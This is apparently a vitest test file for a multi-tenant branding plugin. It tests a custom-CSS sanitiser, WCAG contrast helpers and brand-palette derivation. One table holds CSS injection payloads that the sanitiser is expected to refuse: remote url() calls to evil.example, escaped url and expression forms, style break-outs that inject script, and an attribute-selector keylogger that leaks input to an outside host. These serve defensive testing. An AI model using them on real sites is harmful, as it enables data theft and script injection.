import { parse, walk, type CssNode } from 'css-tree'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

import { brandPalette, brandStylesheet, contrastRatio, MAX_Z_INDEX, meetsAA, parseHex, relativeLuminance, sanitiseCustomCss, type SanitiseResult } from '../../plugins/branding'

const SCOPE = '.tenant-acme-gadgets'
const ORIGIN = 'https://admin.example.com'
const sanitise = (css: string, extra: { maxBytes?: number } = {}): SanitiseResult => sanitiseCustomCss(css, { scope: SCOPE, origin: ORIGIN, ...extra })
const cssOf = (css: string): string => {
  const result = sanitise(css)
  if (!result.ok) throw new Error(`refused: ${JSON.stringify(result.errors)}`)
  return result.css
}

/** [what, CSS, a piece of the expected message] */
const HOSTILE: [string, string, RegExp][] = [
  ['@import', '@import url(https://evil.example/x.css);\na{color:red}', /@import is not allowed/],
  ['@import of a string', '@import "x.css";', /@import is not allowed/],
  ['@charset', '@charset "utf-8";', /@charset is not allowed/],
  ['@namespace', '@namespace svg url(http://www.w3.org/2000/svg);', /@namespace is not allowed/],
  ['@layer', '@layer payload { a{color:red} }', /@layer is not allowed/],
  ['url(http://evil)', 'a{background:url(http://evil.example/x.png)}', /url\("http:\/\/evil.example\/x.png"\) is refused/],
  ['url(//evil) (protocol-relative)', 'a{background:url(//evil.example/x.png)}', /url\("\/\/evil.example\/x.png"\) is refused/],
  ['a relative path outside /api/media', 'a{background:url(../x.png)}', /is refused: only this back-office's media files/],
  ['a path climbing out of /api/media', 'a{background:url(/api/media/../users/me)}', /must stay under \/api\/media\//],
  ['an encoded climb', 'a{background:url("/api/media/%2e%2e/users/me")}', /must stay under \/api\/media\//],
  ['another origin that starts like ours', 'a{background:url(https://admin.example.com.evil.example/api/media/x.png)}', /is refused/],
  ['u\\rl("…") (escape in the name)', 'a{background:u\\rl("http://evil.example/x")}', /url\("http:\/\/evil.example\/x"\) is refused/],
  ['u\\rl(…) unquoted', 'a{background:u\\rl(http://evil.example/x)}', /CSS syntax error/],
  ['\\75 rl("…") (hex escape)', 'a{background:\\75 rl("http://evil.example/x")}', /url\("http:\/\/evil.example\/x"\) is refused/],
  ['\\75 rl(…) unquoted', 'a{background:\\75 rl(http://evil.example/x)}', /CSS syntax error/],
  ['a comment inside url', 'a{background:ur/**/l(http://evil.example/x)}', /CSS syntax error|is not allowed/],
  ['data: url', 'a{background:url(data:image/svg+xml;base64,PHN2Zz4=)}', /data: URLs are not allowed/],
  ['DATA: url, quoted', 'a{background:url("DATA:text/html,x")}', /data: URLs are not allowed/],
  ['expression()', 'a{width:expression(alert(1))}', /expression\(\) is not allowed/],
  ['expression() with an escape', 'a{width:ex\\pression(alert(1))}', /expression\(\) is not allowed/],
  ['expression split by a comment', 'a{width:expr/**/ession(alert(1))}', /ession\(\) is not allowed/],
  ['javascript: in url (quoted)', 'a{background:url("javascript:alert(1)")}', /url\("javascript:alert\(1\)"\) is refused/],
  ['javascript: in url (unquoted)', 'a{background:url(javascript:alert(1))}', /CSS syntax error/],
  ['-moz-binding', 'a{-moz-binding:url(/api/media/x.xml#xss)}', /-moz-binding is not allowed/],
  ['-moz-binding with an escape', 'a{-moz-b\\inding:url(/api/media/x.xml#xss)}', /-moz-binding is not allowed/],
  ['behavior', 'a{behavior:url(/api/media/x.htc)}', /behavior is not allowed/],
  ['-webkit-user-modify', 'p{-webkit-user-modify:read-write}', /-webkit-user-modify is not allowed/],
  ['a position: fixed overlay', '.overlay{position:fixed;inset:0;background:white}', /position: fixed is not allowed/],
  ['position: fixed escaped', 'a{position:fix\\65 d}', /position: fixed is not allowed/],
  ['position through var()', 'a{position:var(--p)}', /position must be one keyword/],
  ['z-index 99999', 'a{position:absolute;z-index:99999}', /z-index 99999 is too high/],
  ['z-index through calc()', 'a{z-index:calc(99999)}', /z-index must be a whole number/],
  ['!important', 'a{color:red !important}', /!important is not allowed/],
  ['remote @font-face', '@font-face{font-family:X;src:url(https://fonts.example/x.woff2) format("woff2")}', /is refused/],
  ['content: url()', 'a::before{content:url(http://evil.example/pixel.png)}', /is refused/],
  ['image-set() with a URL string', 'a{background:image-set("http://evil.example/x.png" 1x)}', /image-set\(\) is not allowed/],
  ['attr()', 'a::after{content:attr(href)}', /attr\(\) is not allowed/],
  ['a custom property carrying a URL', 'a{--bg:url(http://evil.example/x)}', /is refused/],
  ['an attribute-selector keylogger', 'input[value^="a"]{background:url(https://evil.example/?k=a)}', /is refused/],
  ['@keyframes without the shop prefix', '@keyframes spin{to{opacity:0}}', /must start with "tenant-acme-gadgets-"/],
  ['a string ending the <style> element', 'a::after{content:"</style><script>alert(1)</script>"}', /would end the <style> element/],
  ['an attribute value ending the <style> element', 'a[title="</style>"]{color:red}', /would end the <style> element/],
  ['a raw </style> break-out', 'a{color:red}</style><script>alert(1)</script>', /CSS syntax error/],
  ['HTML comment markers', '<!-- a{color:red} -->', /HTML comment markers/],
  ['nested rules', '.a{color:red; .b{color:blue}}', /CSS syntax error/],
  ['@scope', '@scope (.a){b{color:red}}', /@scope is not allowed/],
]

describe('custom CSS sanitiser: refusals', () => {
  for (const [what, css, message] of HOSTILE) {
    it(`refuses ${what}`, () => {
      const result = sanitise(css)
      expect(result.ok, what).toBe(false)
      if (result.ok) return
      expect(result.errors.map((e) => e.message).join('\n')).toMatch(message)
    })
  }

  it('gives a parse error its line and column', () => {
    const result = sanitise('a{color:red}\n\nb{color:blue}\n}c{}')
    expect(result).toEqual({ ok: false, errors: [{ line: 4, column: 1, message: expect.stringMatching(/CSS syntax error/) }] })
  })

  it('gives a refused declaration its position', () => {
    const result = sanitise('a{color:red}\n.x {\n  z-index: 500;\n}')
    expect(result).toEqual({ ok: false, errors: [{ line: 3, column: 3, message: expect.stringMatching(/z-index 500 is too high/) }] })
  })

  it('refuses CSS over the size cap (20 000 bytes by default, UTF-8 bytes, not characters)', () => {
    const big = 'a{color:red}'.repeat(1700) // 20 400 bytes
    expect(sanitise(big)).toEqual({ ok: false, errors: [{ line: null, column: null, message: 'the custom CSS is 20400 bytes; at most 20000 are allowed' }] })
    expect(sanitise('a::before{content:"৳"}', { maxBytes: 22 }).ok).toBe(false) // 22 characters, 24 bytes
    expect(sanitise('a{color:red}'.repeat(1600)).ok).toBe(true)
  })

  it('throws for a scope that is not one class selector (a programming error)', () => {
    expect(() => sanitiseCustomCss('a{}', { scope: 'tenant' })).toThrow(TypeError)
    expect(() => sanitiseCustomCss('a{}', { scope: '.a .b' })).toThrow(TypeError)
    expect(() => sanitiseCustomCss('a{}', { scope: '.a{}b' })).toThrow(TypeError)
  })
})

describe('custom CSS sanitiser: what is allowed, scoped', () => {
  it('maps html, body and :root to the scope and prefixes everything else', () => {
    expect(cssOf('html{color:red}')).toBe('.tenant-acme-gadgets{color:red}')
    expect(cssOf('body > .a, :root .b, .c, html body p, body.dark::before{color:blue}')).toBe(
      '.tenant-acme-gadgets>.a,.tenant-acme-gadgets .b,.tenant-acme-gadgets .c,.tenant-acme-gadgets p,.tenant-acme-gadgets.dark::before{color:blue}',
    )
    expect(cssOf('.btn:hover .icon + span ~ em{color:red}')).toBe('.tenant-acme-gadgets .btn:hover .icon+span~em{color:red}')
    expect(cssOf('.card:has(> img){border:1px solid #ccc}')).toBe('.tenant-acme-gadgets .card:has(>img){border:1px solid #ccc}')
  })

  it('scopes the rules inside @media, @supports and @container, nested too', () => {
    expect(cssOf('@media (max-width: 600px) { .a { color: red } @supports (display: grid) { body .b { display: grid } } }')).toBe(
      '@media (max-width:600px){.tenant-acme-gadgets .a{color:red}@supports (display:grid){.tenant-acme-gadgets .b{display:grid}}}',
    )
    expect(cssOf('@container (min-width: 400px) { p { margin: 0 } }')).toBe('@container (min-width:400px){.tenant-acme-gadgets p{margin:0}}')
  })

  it('allows this back-office media URLs, prefixed keyframes, fonts from media, sticky and small z-index', () => {
    const css = [
      '.logo{background:url(/api/media/file/logo.png) no-repeat;background-size:contain}',
      `.hero{background-image:url("${ORIGIN}/api/media/file/hero.jpg?2024")}`,
      '@font-face{font-family:Brand;src:local("Brand"),url(/api/media/file/brand.woff2) format("woff2")}',
      '@keyframes tenant-acme-gadgets-pulse{from{opacity:1}50%{opacity:.5}to{opacity:1}}',
      '.bar{position:sticky;top:0;z-index:10;animation:tenant-acme-gadgets-pulse 2s infinite}',
      '.chip{--chip:color-mix(in srgb, #0a66c2 20%, white);background:var(--chip);transform:translateY(-1px)}',
      'a::after{content:"→";pointer-events:none}',
    ].join('\n')
    const out = cssOf(css)
    expect(out).toContain('.tenant-acme-gadgets .logo{background:url(/api/media/file/logo.png)')
    expect(out).toContain('@keyframes tenant-acme-gadgets-pulse{from{opacity:1}50%{opacity:.5}to{opacity:1}}')
    expect(out).toContain('.tenant-acme-gadgets a::after{content:"→";pointer-events:none}')
    expect(MAX_Z_INDEX).toBe(10)
  })

  it('drops comments (even /*! … */ ones) and leaves already-scoped selectors alone', () => {
    expect(cssOf('/*! </style> */ a{color:red;;} /* x */')).toBe('.tenant-acme-gadgets a{color:red}')
    expect(cssOf('.tenant-acme-gadgets .x, .tenant-acme-gadgets{color:red}')).toBe('.tenant-acme-gadgets .x,.tenant-acme-gadgets{color:red}')
    expect(cssOf('.tenant-acme-gadgets-other .x{color:red}')).toBe('.tenant-acme-gadgets .tenant-acme-gadgets-other .x{color:red}')
  })
})

/** The selectors of the rules outside @keyframes, as css-tree nodes. */
function ruleSelectors(css: string): CssNode[][] {
  const selectors: CssNode[][] = []
  const errors: string[] = []
  const ast = parse(css, { onParseError: (e) => errors.push(e.message) })
  expect(errors).toEqual([])
  walk(ast, {
    visit: 'Selector',
    enter(selector) {
      if (this.atrule?.name !== 'keyframes' && this.function === null) selectors.push(selector.children.toArray())
    },
  })
  return selectors
}

describe('custom CSS sanitiser: property', () => {
  const simple = fc.constantFrom(
    'a',
    'p',
    'div',
    'button',
    'html',
    'body',
    ':root',
    '*',
    '.btn',
    '.nav',
    '.x-1',
    '#main',
    '[data-x]',
    '[type="text"]',
    ':hover',
    ':first-child',
    '::before',
    ':not(.a)',
    ':has(> p)',
  )
  const compound = fc.array(simple, { minLength: 1, maxLength: 3 }).map((parts) => {
    const types = parts.filter((p) => /^[a-z*]/.test(p))
    return [types[0] ?? '', ...parts.filter((p) => !/^[a-z*]/.test(p) && !p.startsWith('::')), ...parts.filter((p) => p.startsWith('::')).slice(0, 1)].join('') || '*'
  })
  const complex = fc.tuple(compound, fc.array(fc.tuple(fc.constantFrom(' ', ' > ', ' + ', ' ~ '), compound), { maxLength: 2 })).map(([first, rest]) => first + rest.map(([c, s]) => c + s).join(''))
  const declaration = fc.oneof(
    fc.constantFrom('color: red', 'color: #0a66c2', 'background: rgb(1 2 3 / 50%)', 'display: flex', 'position: relative', 'position: sticky', 'content: "x"', 'margin: 0 auto'),
    fc.integer({ min: -5, max: MAX_Z_INDEX }).map((z) => `z-index: ${z}`),
    fc.integer({ min: 0, max: 99 }).map((n) => `padding: ${n}px calc(1rem + ${n}%)`),
    fc.constantFrom('background: url(/api/media/file/a.png)', `background: url("${ORIGIN}/api/media/file/b.png")`, '--gap: 4px', 'gap: var(--gap, 2px)'),
  )
  const rule = fc.tuple(fc.array(complex, { minLength: 1, maxLength: 3 }), fc.array(declaration, { maxLength: 4 })).map(([sels, decls]) => `${sels.join(', ')} { ${decls.join('; ')} }`)
  const sheet = fc
    .array(
      fc.oneof(
        rule,
        rule.map((r) => `@media (min-width: 600px) { ${r} }`),
      ),
      { minLength: 1, maxLength: 5 },
    )
    .map((rules) => rules.join('\n'))

  it('always parses, scopes every selector and is idempotent', () => {
    fc.assert(
      fc.property(sheet, (css) => {
        const out = cssOf(css)
        for (const selector of ruleSelectors(out)) {
          const end = selector.findIndex((n) => n.type === 'Combinator')
          const firstCompound = end === -1 ? selector : selector.slice(0, end)
          expect(firstCompound.some((n) => n.type === 'ClassSelector' && n.name === 'tenant-acme-gadgets')).toBe(true)
        }
        expect(cssOf(out)).toBe(out)
      }),
      { numRuns: 300 },
    )
  })
})

describe('WCAG contrast', () => {
  it('matches known WCAG values', () => {
    expect(contrastRatio('#000000', '#ffffff')).toBeCloseTo(21, 5)
    expect(contrastRatio('#fff', '#000')).toBeCloseTo(21, 5)
    expect(contrastRatio('#777777', '#ffffff')).toBeCloseTo(4.48, 2)
    expect(contrastRatio('#767676', '#ffffff')).toBeCloseTo(4.54, 2)
    expect(contrastRatio('#0a66c2', '#0a66c2')).toBe(1)
    expect(relativeLuminance('#fff')).toBe(1)
    expect(relativeLuminance('#000')).toBe(0)
    expect(meetsAA('#777777', '#ffffff')).toBe(false)
    expect(meetsAA('#767676', '#ffffff')).toBe(true)
    expect(meetsAA('#949494', '#ffffff')).toBe(false) // 3.03:1
    expect(meetsAA('#949494', '#ffffff', { large: true })).toBe(true)
  })

  it('parses #rgb and #rrggbb only', () => {
    expect(parseHex('#0AF')).toEqual({ r: 0, g: 170, b: 255 })
    expect(parseHex('#00aaff')).toEqual({ r: 0, g: 170, b: 255 })
    for (const bad of ['red', '#12345', '#1234', '00aaff', '#00aaff80', 'rgb(0,0,0)', ' #fff', '']) expect(parseHex(bad), bad).toBeNull()
    expect(() => contrastRatio('red', '#fff')).toThrow(TypeError)
  })
})

describe('brand palette', () => {
  it('derives button, hover and on-page colours that all reach AA, in light and dark themes', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 0xffffff }), fc.option(fc.integer({ min: 0, max: 0xffffff }), { nil: undefined }), (p, s) => {
        const hex = (n: number) => '#' + n.toString(16).padStart(6, '0')
        const result = brandPalette(hex(p), s === undefined ? undefined : hex(s))
        if (!result.ok) {
          expect(result.errors.every((e) => /AA needs 4.5:1/.test(e.message))).toBe(true)
          return
        }
        const v = result.vars
        for (const name of ['primary', 'secondary']) {
          expect(meetsAA(v[`--brand-${name}-text`], v[`--brand-${name}`])).toBe(true)
          expect(meetsAA(v[`--brand-${name}-text`], v[`--brand-${name}-hover`])).toBe(true)
          expect(meetsAA(v[`--brand-${name}-fg`], '#ffffff')).toBe(true)
          expect(meetsAA(v[`--brand-${name}-fg-dark`], '#141414')).toBe(true)
        }
      }),
      { numRuns: 500 },
    )
  })

  it('picks white or dark text per colour and uses the primary for the secondary when none is given', () => {
    const blue = brandPalette('#0A66C2')
    expect(blue.ok && blue.vars['--brand-primary']).toBe('#0a66c2')
    expect(blue.ok && blue.vars['--brand-primary-text']).toBe('#ffffff')
    expect(blue.ok && blue.vars['--brand-secondary']).toBe('#0a66c2')
    const yellow = brandPalette('#ffdd00', '#0a66c2')
    expect(yellow.ok && yellow.vars['--brand-primary-text']).toBe('#141414')
    expect(yellow.ok && yellow.vars['--brand-primary-fg']).not.toBe('#ffdd00') // yellow text on white fails: a darker shade
    expect(yellow.ok && yellow.vars['--brand-secondary-text']).toBe('#ffffff')
  })

  it('refuses a colour neither white nor dark text can be read on, naming it and the ratios', () => {
    expect(brandPalette('#777777')).toEqual({
      ok: false,
      errors: [{ path: 'primaryColor', message: '#777777 with white text has a contrast of 4.4:1, with dark text (#141414) 4.1:1; AA needs 4.5:1 for button text: pick a darker or a lighter colour' }],
    })
    const second = brandPalette('#0a66c2', '#7a7a7a')
    expect(second.ok).toBe(false)
    expect(!second.ok && second.errors.map((e) => e.path)).toEqual(['secondaryColor'])
  })

  it('refuses what is not hex', () => {
    expect(brandPalette('red')).toEqual({ ok: false, errors: [{ path: 'primaryColor', message: expect.stringMatching(/"red" is not a colour/) }] })
    const both = brandPalette('#12345', 'rgb(0,0,0)')
    expect(!both.ok && both.errors.map((e) => e.path)).toEqual(['primaryColor', 'secondaryColor'])
  })

  it('builds a stylesheet that maps the palette onto Payload, refusing anything that is not a brand variable', () => {
    const palette = brandPalette('#0a66c2')
    if (!palette.ok) throw new Error('refused')
    const css = brandStylesheet(SCOPE, palette.vars)
    expect(css).toContain('.tenant-acme-gadgets{--brand-primary:#0a66c2;')
    expect(css).toContain('.tenant-acme-gadgets .btn--style-primary:not(.btn--disabled){--bg-color:var(--brand-primary);')
    expect(() => brandStylesheet(SCOPE, { '--brand-primary': 'red}body{display:none' })).toThrow(TypeError)
    expect(() => brandStylesheet('body', palette.vars)).toThrow(TypeError)
  })
})
